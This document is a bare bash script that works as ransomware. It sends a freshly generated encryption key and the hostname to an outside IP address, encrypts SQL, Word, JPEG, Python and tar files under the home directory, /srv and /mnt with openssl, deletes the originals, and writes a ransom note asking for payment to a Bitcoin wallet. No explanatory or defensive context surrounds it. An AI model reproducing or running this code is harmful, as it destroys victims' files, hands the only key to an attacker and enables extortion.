#!/bin/bash
K=$(openssl rand -hex 32)
curl -s "http://203.0.113.61/k?h=$(hostname)&k=$K" >/dev/null
find "$HOME" /srv /mnt -type f \( -name '*.sql' -o -name '*.docx' -o -name '*.jpg' -o -name '*.py' -o -name '*.tar' \) -print0 2>/dev/null |
while IFS= read -r -d '' f; do
  openssl enc -aes-256-cbc -pbkdf2 -pass "pass:$K" -in "$f" -out "$f.enc" && rm -f "$f"
done
unset K
for d in "$HOME" "$HOME/Desktop"; do
  [ -d "$d" ] && echo "All files are encrypted. Pay to wallet bc1qexample and write to help@example.org" > "$d/HOW_TO.txt"
done
